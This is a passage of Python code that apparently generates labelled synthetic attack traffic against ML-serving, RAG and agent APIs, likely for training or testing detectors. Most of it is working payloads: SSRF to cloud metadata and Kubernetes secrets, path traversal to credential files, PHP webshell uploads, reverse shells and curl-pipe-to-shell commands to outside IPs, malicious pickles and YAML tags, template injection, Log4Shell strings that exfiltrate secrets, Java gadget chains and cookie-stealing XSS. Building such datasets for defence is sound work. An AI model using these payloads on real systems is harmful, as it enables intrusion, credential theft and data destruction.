    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/user-data",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://127.0.0.1:8081/models?url=http://evil.example/x.mar",
    "http://localhost:5000/api/2.0/mlflow/users/create",
    "http://0.0.0.0:8265/api/jobs/",
    "http://127.1:2379/v2/keys/?recursive=true",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "https://kubernetes.default.svc.cluster.local:443/api/v1/secrets",
    "http://10.0.0.1:10250/pods",
    "http://vault.vault.svc:8200/v1/secret/data/llm-keys",
    "http://prometheus-server.monitoring.svc/api/v1/query?query=up",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "gopher://redis.cache.svc:6379/_SET%20pwn%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%20%3F%3E%22",
    "dict://127.0.0.1:11211/stats",
    "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
    "http://localhost@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:11434/api/pull",
    "http://017700000001:8888/api/kernels",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "http://instance-data/latest/meta-data/hostname",
    "http://192.168.0.1:8080/manager/html",
]


def gen_attack_ssrf():
    # fetch_url / browse tool arguments
    for i in range(10):
        u = SSRF_URLS[i * 3 % len(SSRF_URLS)]
        if i % 2:
            emit("ssrf", "tool-call", "POST", "/v1/chat/completions", chat_headers(), tool_call_body("fetch_url", json.dumps({"url": u})))
        else:
            agent_invoke("ssrf", "browse-tool", R.choice(["browse", "fetch_url", "web_reader"]), {"url": u, "max_chars": 20000})
    # document loaders
    for i in range(8):
        u = SSRF_URLS[(i * 5 + 1) % len(SSRF_URLS)]
        emit("ssrf", "doc-loader", "POST", "/v1/ingest/url", headers("rag", "requests", auth="jwt"),
             {"source_url": u, "loader": R.choice(["web", "unstructured", "pdf"]), "tenant": "acme"})
    for u in SSRF_URLS[20:24]:
        emit("ssrf", "doc-loader", "GET", "/v1/ingest/preview?" + q({"url": u}), headers("rag", "httpx", ctype=None, auth="jwt"))
    # model downloads
    emit("ssrf", "model-download", "POST", "/models?" + q({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "initial_workers": 1}),
         headers("torchserve", "curl", ctype=None, auth=None))
    emit("ssrf", "model-download", "POST", "/api/pull", headers("ollama", "curl", auth=None),
         {"model": "http://127.0.0.1:6443/api/v1/secrets#llama3", "insecure": True})
    emit("ssrf", "model-download", "POST", "/api/2.0/mlflow/model-versions/create", headers("mlflow", "mlflow", auth="jwt"),
         {"name": "m", "source": "http://169.254.169.254/computeMetadata/v1/", "run_id": rs(32, HEX)})
    emit("ssrf", "model-download", "POST", "/v1/models/load", headers("vllm", "requests"),
         {"model_uri": "http://[::ffff:169.254.169.254]/latest/meta-data/", "name": "x"})
    # webhook URLs
    for u in ["http://169.254.169.254/latest/meta-data/", "http://localhost:4000/key/generate", "http://10.96.0.10:53/",
              "http://0177.0.0.1:9090/-/quit"]:
        emit("ssrf", "webhook", "POST", "/api/v1/webhooks", headers("prompts", "httpx", auth="jwt"), {"url": u, "events": ["model_version.created"]})
    emit("ssrf", "webhook", "POST", "/api/2.0/mlflow/registry-webhooks/create", headers("mlflow", "mlflow", auth="jwt"),
         {"events": ["MODEL_VERSION_CREATED"], "http_url_spec": {"url": "http://metadata.google.internal/computeMetadata/v1/?recursive=true"}})
    # image_url in vision message pointing at metadata
    emit("ssrf", "vision-url", "POST", "/v1/chat/completions", chat_headers(),
         {"model": "gpt-4o", "messages": [{"role": "user", "content": [{"type": "text", "text": "describe"},
          {"type": "image_url", "image_url": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/admin-role"}}]}]})
    # IMDS headers forwarded via a proxy tool (headers param)
    agent_invoke("ssrf", "imds-headers", "http_request", {"method": "GET", "url": "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
                                                           "headers": {"Metadata-Flavor": "Google"}})
    agent_invoke("ssrf", "imds-headers", "http_request", {"method": "PUT", "url": "http://169.254.169.254/latest/api/token",
                                                           "headers": {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}})
    # LiteLLM custom api_base pointing inward
    emit("ssrf", "api-base", "POST", "/v1/chat/completions", chat_headers(),
         {"model": "openai/gpt-4o", "api_base": "http://169.254.169.254/latest/meta-data", "messages": [{"role": "user", "content": "hi"}]})
    emit("ssrf", "api-base", "POST", "/model/new", headers("gw", "requests"),
         {"model_name": "evil", "litellm_params": {"model": "openai/x", "api_base": "http://kubernetes.default.svc:443/api/v1/namespaces/default/secrets"}})
    # multipart field
    ct, body = multipart([("url", "file:///proc/self/environ"), ("collection", "kb")], [])
    emit("ssrf", "multipart", "POST", "/v1/ingest/url", headers("rag", "browser", ctype=ct, auth="jwt"), body)
    # Weaviate import with remote file
    emit("ssrf", "vector-import", "POST", "/v1/objects", headers("weaviate", "requests"),
         {"class": "Image", "properties": {"image": "http://127.0.0.1:8080/v1/meta"}, "moduleConfig": {"img2vec": {"url": "http://169.254.169.254/latest/meta-data/"}}})


TRAVERSALS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "../../../../proc/self/environ",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "../../../../root/.ssh/id_rsa",
    "/etc/passwd%00.json",
    "../../../../home/jovyan/.jupyter/jupyter_server_config.py",
]


def gen_attack_lfi():
    run = rs(32, HEX)
    # MLflow artifacts (query + path)
    for t in TRAVERSALS[:5]:
        emit("lfi", "mlflow-artifact", "GET", f"/get-artifact?path={t if '%' in t else quote(t, safe='')}&run_uuid={run}",
             headers("mlflow", "mlflow", ctype=None, auth="jwt"))
    emit("lfi", "mlflow-artifact", "GET", "/api/2.0/mlflow/artifacts/list?" + q({"run_id": run, "path": "../../../../../etc"}),
         headers("mlflow", "mlflow", ctype=None, auth="jwt"))
    emit("lfi", "mlflow-artifact", "GET", "/api/2.0/mlflow-artifacts/artifacts/1/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
         headers("mlflow", "mlflow", ctype=None, auth="jwt"))
    emit("lfi", "mlflow-artifact-uri", "POST", "/api/2.0/mlflow/runs/create", headers("mlflow", "mlflow", auth="jwt"),
         {"experiment_id": "0", "run_name": "x", "artifact_uri": "file:///etc/passwd"})
    emit("lfi", "mlflow-artifact-uri", "POST", "/api/2.0/mlflow/experiments/create", headers("mlflow", "mlflow", auth="jwt"),
         {"name": "exp-" + rs(5), "artifact_location": "file:///var/run/secrets/kubernetes.io/serviceaccount"})
    emit("lfi", "mlflow-artifact-uri", "POST", "/api/2.0/mlflow/model-versions/create", headers("mlflow", "mlflow", auth="jwt"),
         {"name": "fraud-detector", "source": "/proc/self/cwd/../../../../etc", "run_id": run})
    # model names with traversal
    for t in ["../../../../etc/passwd", "..%2F..%2F..%2Froot%2F.cache%2Fhuggingface%2Ftoken"]:
        emit("lfi", "model-name", "POST", f"/v2/models/{t}/infer", headers("triton", "requests", auth="jwt"),
             {"inputs": [{"name": "x", "shape": [1], "datatype": "FP32", "data": [1.0]}]})
    emit("lfi", "model-name", "POST", "/api/show", headers("ollama", "curl", auth=None), {"model": "../../../../../../etc/shadow"})
    emit("lfi", "model-name", "POST", "/api/create", headers("ollama", "curl", auth=None),
         {"model": "x", "modelfile": "FROM /root/.ollama/../../../etc/passwd\nSYSTEM hi"})
    emit("lfi", "model-name", "POST", "/v1/chat/completions", chat_headers(),
         {"model": "../../../../../proc/self/environ", "messages": [{"role": "user", "content": "hi"}]})
    emit("lfi", "model-name", "GET", "/acme/intent-classifier/resolve/main/" + "..%2F" * 6 + "etc%2Fpasswd", headers("hf", "hf", ctype=None, auth="hf"))
    # dataset file names (multipart filename, JSON)
    ct, body = multipart([("split", "train")], [("file", "../../../../app/config/settings.py", "text/csv", "a,b\n1,2")])
    emit("lfi", "dataset-filename", "POST", "/api/datasets/acme/support-intents/upload/main/data", headers("hf", "requests", ctype=ct, auth="hf"), body)
    emit("lfi", "dataset-filename", "POST", "/api/v1/datasets/load", headers("rag", "httpx", auth="jwt"),
         {"name": "support", "data_files": {"train": "../../../../etc/passwd"}, "format": "csv"})
    # tool args reading local files
    for t in [TRAVERSALS[7], "/etc/passwd", "file:///proc/1/environ"]:
        agent_invoke("lfi", "agent-tool", "read_file", {"path": t})
    emit("lfi", "tool-call", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("fetch_url", json.dumps({"url": "file:///etc/passwd"})))
    # jupyter contents and label studio local-files
    emit("lfi", "jupyter", "GET", "/user/alice/api/contents/" + "..%2F" * 5 + "etc%2Fpasswd?content=1",
         headers("jupyter", "browser", ctype=None, auth=None, extra=[["Authorization", "token " + rs(48, HEX)]]))
    emit("lfi", "label-studio", "GET", "/data/local-files/?" + q({"d": "../../../../../etc/passwd"}),
         headers("labelstudio", "browser", ctype=None, auth=None))
    emit("lfi", "label-studio", "GET", "/data/upload/%2e%2e/%2e%2e/%2e%2e/%2e%2e/root/.aws/credentials",
         headers("labelstudio", "browser", ctype=None, auth=None))
    # torchserve / kserve storage URIs
    emit("lfi", "storage-uri", "POST", "/apis/serving.kserve.io/v1beta1/namespaces/ml/inferenceservices", headers("kserve", "go", auth="jwt"),
         {"apiVersion": "serving.kserve.io/v1beta1", "kind": "InferenceService", "metadata": {"name": "x"},
          "spec": {"predictor": {"model": {"modelFormat": {"name": "sklearn"}, "storageUri": "pvc://models/../../../etc/kubernetes/admin.conf"}}}})
    emit("lfi", "windows", "GET", "/v1/files/" + quote("..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", safe="") + "/content",
         headers("gw", "requests", ctype=None))


def gen_attack_rfi_php():
    # remote include of templates / loaders
    emit("rfi", "template-include", "GET", "/api/v1/prompts/render?" + q({"template": "http://evil.example.net/shell.txt?", "name": "x"}),
         headers("prompts", "requests", ctype=None, auth="jwt"))
    emit("rfi", "template-include", "POST", "/api/v1/prompts", headers("prompts", "httpx", auth="jwt"),
         {"name": "x", "template_path": "https://pastebin.com/raw/aB3dE9xZ?", "template_format": "jinja2"})
    emit("rfi", "plugin-url", "POST", "/api/v1/agents/plugins", headers("agent", "httpx", auth="jwt"),
         {"manifest_url": "http://203.0.113.9/c99.txt?", "include": "php://input"})
    emit("rfi", "page-param", "GET", "/index.php?page=" + quote("http://198.51.100.7/r57.txt?", safe="") + "&lang=en",
         headers("labelstudio", "browser", ctype=None, auth=None))
    emit("rfi", "page-param", "GET", "/dashboard/?" + q({"module": "ftp://anonymous@198.51.100.7/shell.php"}),
         headers("mlflow", "browser", ctype=None, auth=None))
    emit("rfi", "data-wrapper", "GET", "/index.php?" + q({"file": "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+"}),
         headers("labelstudio", "browser", ctype=None, auth=None))
    # php
    emit("php", "filter-wrapper", "POST", "/v1/ingest/url", headers("rag", "requests", auth="jwt"),
         {"source_url": "php://filter/convert.base64-encode/resource=/var/www/html/config.php", "loader": "web"})
    ct, body = multipart([("path", "README.md")], [("file", "model_card.php", "application/x-php",
                                                     "<?php echo shell_exec($_GET['c']); ?>")])
    emit("php", "webshell-upload", "POST", "/api/models/acme/intent-classifier/upload/main", headers("hf", "requests", ctype=ct, auth="hf"), body)
    ct, body = multipart([], [("file", "avatar.png.phtml", "image/png", "\x89PNG\r\n<?=`$_POST[x]`?>")])
    emit("php", "webshell-upload", "POST", "/api/projects/4/upload", headers("labelstudio", "browser", ctype=ct, auth=None), body)
    emit("php", "code-param", "GET", "/index.php?" + q({"s": "/index/\\think\\app/invokefunction", "function": "call_user_func_array",
                                                        "vars[0]": "system", "vars[1][]": "id"}), headers("prompts", "go", ctype=None, auth=None))
    emit("php", "object-injection", "POST", "/api/v1/sessions/import", headers("prompts", "requests", ctype="application/x-www-form-urlencoded", auth=None),
         "state=" + quote('O:8:"Template":1:{s:4:"file";s:15:"/etc/passwd";}', safe=""))
    emit("php", "phar", "POST", "/v1/ingest/url", headers("rag", "requests", auth="jwt"),
         {"source_url": "phar:///tmp/uploads/avatar.jpg/test.txt", "loader": "unstructured"})


def gen_attack_lfi_more():
    for t in TRAVERSALS[5:]:
        emit("lfi", "artifact-path", "GET", f"/api/2.0/mlflow-artifacts/artifacts/{t}",
             headers("mlflow", "requests", ctype=None, auth="jwt"))


CMDS = [
    "; cat /etc/passwd",
    "| id",
    "$(curl -s http://203.0.113.50/x.sh | sh)",
    "`wget -qO- http://198.51.100.23/k | bash`",
    "&& bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
    "; nc -e /bin/sh 198.51.100.23 9001",
    "|| python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.50\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    "%0Auname%20-a",
    ";${IFS}cat${IFS}/var/run/secrets/kubernetes.io/serviceaccount/token",
    "\nkubectl get secrets -A -o yaml",
]


def gen_attack_rce():
    # command injection via tool arguments
    for i, c in enumerate(CMDS[:7]):
        tool, key = R.choice([("run_shell", "command"), ("git_clone", "repo"), ("convert_document", "filename"), ("ping_host", "host")])
        base = {"run_shell": "ls -la /data", "git_clone": "https://github.com/acme/docs.git", "convert_document": "report.docx", "ping_host": "10.0.0.5"}[tool]
        if i % 2:
            agent_invoke("rce", "agent-tool", tool, {key: base + " " + c})
        else:
            emit("rce", "tool-call", "POST", "/v1/chat/completions", chat_headers(), tool_call_body(tool, json.dumps({key: base + c})))
    emit("rce", "tool-call", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("python_sandbox", json.dumps({"code": "__import__('os').system('curl http://203.0.113.50/$(whoami)')"})))
    emit("rce", "tool-call", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("python_sandbox", json.dumps({"code": "import subprocess;print(subprocess.check_output(['cat','/var/run/secrets/kubernetes.io/serviceaccount/token']))"})))
    # query-string command injection
    emit("rce", "query", "GET", "/api/v1/tools/ping?" + q({"host": "127.0.0.1" + CMDS[0]}), headers("agent", "requests", ctype=None, auth="jwt"))
    emit("rce", "query", "GET", "/api/v1/tools/convert?file=" + CMDS[7] + "&fmt=pdf", headers("agent", "requests", ctype=None, auth="jwt"))
    emit("rce", "query", "GET", "/api/v1/tools/ping?" + q({"host": "10.0.0.1" + CMDS[8]}), headers("agent", "requests", ctype=None, auth="jwt"))
    # Jupyter kernel execute (websocket-less REST shim) and terminals
    emit("rce", "jupyter", "POST", f"/user/alice/api/kernels/{uuid4()}/execute", headers("jupyter", "requests", auth=None,
         extra=[["Authorization", "token " + rs(48, HEX)]]),
         {"code": "import os; os.system('bash -c \"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\"')", "silent": True})
    emit("rce", "jupyter", "POST", "/user/alice/api/terminals", headers("jupyter", "requests", auth=None,
         extra=[["Authorization", "token " + rs(48, HEX)]]), {"name": "1", "cmd": "curl http://198.51.100.23/m | sh"})
    emit("rce", "jupyter", "POST", "/api/contents/startup.ipynb", headers("jupyter", "requests", auth=None),
         {"type": "notebook", "content": {"cells": [{"cell_type": "code", "source": "!wget http://203.0.113.50/xmrig -O /tmp/x && chmod +x /tmp/x && /tmp/x"}]}})
    # Ray-style job submission, MLflow project entrypoint
    emit("rce", "job-submit", "POST", "/api/jobs/", headers("agent", "requests", auth=None),
         {"entrypoint": "python -c \"import os;os.system('id > /tmp/pwn; curl -d @/tmp/pwn http://203.0.113.50')\"", "runtime_env": {}})
    emit("rce", "mlflow-recipe", "POST", "/api/2.0/mlflow/runs/create", headers("mlflow", "mlflow", auth="jwt"),
         {"experiment_id": "1", "tags": [{"key": "mlflow.project.entryPoint", "value": "main; rm -rf / --no-preserve-root"}]})
    # model-server custom handler / env args
    emit("rce", "model-args", "POST", "/v1/load_lora_adapter", headers("vllm", "requests"),
         {"lora_name": "x", "lora_path": "/tmp/$(id>/tmp/o)"})
    emit("rce", "header", "GET", "/v1/models", headers("gw", "curl", ctype=None, extra=[["X-Forwarded-For", "127.0.0.1;/bin/cat /etc/passwd"]]))
    ct, body = multipart([("model", "whisper-1"), ("language", "en")],
                         [("file", "a.mp3;curl${IFS}203.0.113.50|sh;.mp3", "audio/mpeg", "ID3\x03\x00")])
    emit("rce", "multipart", "POST", "/v1/audio/transcriptions", headers("gw", "openai", ctype=ct), body)


def _pk(s):
    return base64.b64encode(s.encode("latin-1")).decode()


PICKLES = [
    "cos\nsystem\n(S'curl http://203.0.113.50/s.sh | sh'\ntR.",
    "cposix\nsystem\n(Vid > /tmp/pwned\ntR.",
    "csubprocess\ncheck_output\n((lp0\nS'cat'\naS'/etc/passwd'\natR.",
    "cbuiltins\neval\n(S\"__import__('os').popen('id').read()\"\ntR.",
    "\x80\x04\x95.\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x0bcat /etc/passwd\x94\x85\x94R\x94.",
    "\x80\x02cbuiltins\nexec\nq\x00X\x1b\x00\x00\x00import os;os.system('sh')q\x01\x85q\x02Rq\x03.",
]


def gen_attack_deser():
    # base64 pickle in JSON bodies
    for i, p in enumerate(PICKLES):
        where = i % 3
        if where == 0:
            emit("rce", "pickle-b64", "POST", "/v2/models/fraud-xgb/infer", headers("kserve", "requests", auth="jwt"),
                 {"inputs": [{"name": "payload", "shape": [1], "datatype": "BYTES", "data": [_pk(p)], "parameters": {"content_type": "pickle"}}]})
        elif where == 1:
            emit("rce", "pickle-b64", "POST", "/predictions/densenet161", headers("torchserve", "requests", auth=None,
                 extra=[["Content-Type-Override", "application/python-pickle"]]), {"data": _pk(p), "format": "pickle"})
        else:
            emit("rce", "pickle-b64", "POST", "/api/v1/features/push", headers("feast", "requests", auth=None),
                 {"push_source_name": "driver_stats", "df_pickle": _pk(p)})
    # raw pickle uploads (multipart .pkl / .pt / .joblib)
    for fn, ct, p in [("model.pkl", "application/octet-stream", PICKLES[0]),
                      ("pytorch_model.bin", "application/octet-stream", "PK\x03\x04\x00\x00\x08\x08\x00\x00archive/data.pkl" + PICKLES[1]),
                      ("model.pt", "application/x-pytorch", "PK\x03\x04archive/data.pkl\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."),
                      ("model.joblib", "application/octet-stream", PICKLES[2])]:
        ct2, body = multipart([("path", fn)], [("file", fn, ct, p)])
        emit("rce", "pickle-upload", "POST", "/api/models/acme/intent-classifier/upload/main", headers("hf", "hf", ctype=ct2, auth="hf"), body)
    ct2, body = multipart([("model_name", "evil")], [("file", "evil.mar", "application/octet-stream", "PK\x03\x04MAR-INF/MANIFEST.json" + PICKLES[3])])
    emit("rce", "pickle-upload", "POST", "/models?" + q({"model_name": "evil", "initial_workers": 1}), headers("torchserve", "curl", ctype=ct2, auth=None), body)
    emit("rce", "pickle-raw", "PUT", f"/api/2.0/mlflow-artifacts/artifacts/1/{rs(32, HEX)}/artifacts/model/model.pkl",
         headers("mlflow", "mlflow", ctype="application/octet-stream", auth="jwt"), PICKLES[0])
    emit("rce", "pickle-raw", "POST", "/v1/embeddings/cache/restore", headers("gw", "requests", ctype="application/x-python-pickle"), PICKLES[3])
    # YAML python tags
    for y in ["!!python/object/apply:os.system ['curl http://203.0.113.50/y | sh']",
              "model: !!python/object/new:subprocess.Popen\n  args: [['bash', '-c', 'id > /tmp/p']]",
              "!!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/shadow\"]]",
              "recipe: regression/v1\nsteps:\n  ingest: !!python/name:os.system\n"]:
        r = R.random()
        if r < 0.4:
            emit("rce", "yaml-tag", "POST", "/api/v1/pipelines", headers("agent", "requests", ctype="application/x-yaml", auth="jwt"), y)
        elif r < 0.7:
            ct2, body = multipart([], [("file", "MLmodel", "application/x-yaml", "artifact_path: model\nflavors:\n  python_function:\n    loader_module: " + y)])
            emit("rce", "yaml-tag", "POST", "/api/2.0/mlflow-artifacts/artifacts/upload", headers("mlflow", "mlflow", ctype=ct2, auth="jwt"), body)
        else:
            emit("rce", "yaml-tag", "POST", "/api/v1/prompts/import", headers("prompts", "httpx", auth="jwt"), {"format": "yaml", "content": y})
    # nested: tool arguments carrying YAML config
    emit("rce", "yaml-tag", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("load_config", json.dumps({"config": "!!python/object/apply:os.popen ['id']"})))


SSTI = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{{ config.__class__.__init__.__globals__['os'].environ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[408]('whoami',shell=True,stdout=-1).communicate() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('env').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('curl http://203.0.113.50/$(hostname)').read() }}",
    "{{ namespace.__init__.__globals__.os.system('id') }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{% set x = self._TemplateReference__context.cycler.__init__.__globals__.os %}{{ x.popen('id').read() }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
]


def gen_attack_ssti():
    for i, p in enumerate(SSTI[:9]):
        tpl = R.choice(["Summarize for {{ user }}: ", "Hello ", "Context: {{ context }}\n"]) + p
        emit("ssti", "prompt-template", "POST", "/api/v1/prompts", headers("prompts", "httpx", auth="jwt"),
             {"name": "doc-summary", "template": tpl, "template_format": "jinja2", "input_variables": ["user", "context"]})
    for p in SSTI[9:12]:
        emit("ssti", "prompt-render", "POST", "/api/v1/prompts/render", headers("prompts", "httpx", auth="jwt"),
             {"prompt_id": "support-answer", "variables": {"company": "Acme", "question": p}})
    # chat_template override (vLLM / HF chat templates are Jinja)
    emit("ssti", "chat-template", "POST", "/v1/chat/completions", chat_headers(),
         {"model": MODELS[2], "messages": [{"role": "user", "content": "hi"}],
          "chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}" + SSTI[0]})
    emit("ssti", "chat-template", "POST", "/v1/chat/completions", chat_headers(),
         {"model": MODELS[4], "messages": [{"role": "user", "content": "hi"}],
          "chat_template_kwargs": {"tools_prefix": SSTI[3]}})
    emit("ssti", "tokenizer-config", "POST", "/api/models/acme/llama3-support-lora/commit/main", headers("hf", "hf", auth="hf"),
         {"summary": "tok", "operations": [{"key": "file", "value": {"path": "tokenizer_config.json", "encoding": "utf-8",
          "content": json.dumps({"chat_template": "{{ bos_token }}" + SSTI[2]})}}]})
    # query param rendering
    emit("ssti", "query", "GET", "/api/v1/prompts/preview?" + q({"template": SSTI[1], "vars": "{}"}), headers("prompts", "requests", ctype=None, auth="jwt"))
    emit("ssti", "query", "GET", "/api/v1/prompts/preview?template=" + quote(quote(SSTI[6], safe=""), safe=""), headers("prompts", "requests", ctype=None, auth="jwt"))
    # other engines (Java/Node prompt tooling)
    for p in SSTI[12:]:
        emit("ssti", "other-engine", "POST", "/api/v1/prompts/render", headers("prompts", "go", auth="jwt"),
             {"prompt_id": "digest-email", "variables": {"name": p}})
    # multipart template file, tool argument
    ct, body = multipart([("format", "jinja2")], [("file", "email.j2", "text/plain", "Dear {{ name }},\n" + SSTI[4])])
    emit("ssti", "multipart", "POST", "/api/v1/prompts/import", headers("prompts", "browser", ctype=ct, auth="jwt"), body)
    emit("ssti", "tool-call", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("create_calendar_event", json.dumps({"title": SSTI[7], "start": "2024-10-03T15:00:00Z"})))


LOG4J = [
    "${jndi:ldap://203.0.113.50:1389/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.23/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.50/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oast.example.net/}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.50/p}",
    "${jndi:rmi://198.51.100.23:1099/Exploit}",
]


def gen_attack_java():
    for i, p in enumerate(LOG4J):
        hname = ["User-Agent", "X-Api-Version", "X-Forwarded-For", "Referer", "X-Request-ID", "OpenAI-Organization"][i]
        h = headers(R.choice(["gw", "mlflow", "kserve"]), "requests", ctype=None)
        h = [x for x in h if x[0].lower() != hname.lower()] + [[hname, p]]
        emit("java", "log4shell-header", "GET", R.choice(["/v1/models", "/api/2.0/mlflow/experiments/search", "/v2/health/ready"]), h)
    emit("java", "log4shell-body", "POST", "/v1/chat/completions", chat_headers(),
         {"model": "gpt-4o-mini", "user": LOG4J[0], "messages": [{"role": "user", "content": "hello"}]})
    emit("java", "log4shell-body", "POST", "/v1/embeddings", headers("gw"), {"model": EMB_MODELS[0], "input": ["ok", LOG4J[2]]})
    emit("java", "log4shell-query", "GET", "/api/search?" + q({"q": LOG4J[1]}), headers("labelstudio", "browser", ctype=None, auth=None))
    # Java deserialization (Spark/Flink/Kafka-backed feature pipelines)
    ser = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp"
                           b"sr\x002org.apache.commons.collections.keyvalue.TiedMapEntry").decode()
    emit("java", "deserialization", "POST", "/api/v1/features/materialize", headers("feast", "requests", auth=None), {"state": ser})
    emit("java", "deserialization", "POST", "/jars/upload", headers("feast", "curl", ctype="application/x-java-serialized-object", auth=None),
         "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I=")
    emit("java", "spel", "POST", "/functionRouter", headers("agent", "curl", ctype="text/plain", auth=None,
         extra=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwn\")"]]), "x")
    emit("java", "ognl", "GET", "/struts/index.action?" + q({"redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}": ""}),
         headers("mlflow", "go", ctype=None, auth=None))
    emit("java", "jackson-gadget", "POST", "/api/v1/pipelines", headers("agent", "requests", auth="jwt"),
         '{"config": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://203.0.113.50:1389/Obj", "autoCommit": true}]}')
    emit("java", "fastjson", "POST", "/api/v1/pipelines", headers("agent", "requests", auth="jwt"),
         '{"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.23:1099/Exploit", "autoCommit": true}')


XSS = [
    "<script>fetch('https://203.0.113.50/c?'+document.cookie)</script>",
    "<img src=x onerror=\"fetch('//198.51.100.23/'+localStorage.getItem('token'))\">",
    "<svg/onload=alert(document.domain)>",
    "[click for details](javascript:alert(document.cookie))",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.location='//203.0.113.50/?'+parent.document.cookie</script>\"></iframe>",
    "<a href=\"jav&#x09;ascript:alert(1)\">model weights</a>",
    "\"><details open ontoggle=alert(1)>",
    "![logo](x\" onerror=\"alert(1))",
    "<body onpageshow=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]


def gen_attack_xss():
    # stored XSS in chat transcripts (assistant content persisted, conversation titles)
    for p in XSS[:4]:
        emit("xss", "chat-transcript", "POST", "/api/v1/conversations", headers("agent", "browser", auth="jwt"),
             {"title": "Q3 " + p, "messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "Sure! " + p}]})
    emit("xss", "chat-transcript", "PATCH", f"/api/v1/conversations/{uuid4()}", headers("agent", "browser", auth="jwt"), {"title": XSS[4]})
    emit("xss", "feedback", "POST", "/api/v1/feedback", headers("agent", "browser", auth="jwt"),
         {"message_id": "msg_" + rs(16), "rating": "thumbs_down", "comment": XSS[7]})
    # dataset labels (Label Studio)
    for p in [XSS[1], XSS[2], XSS[10]]:
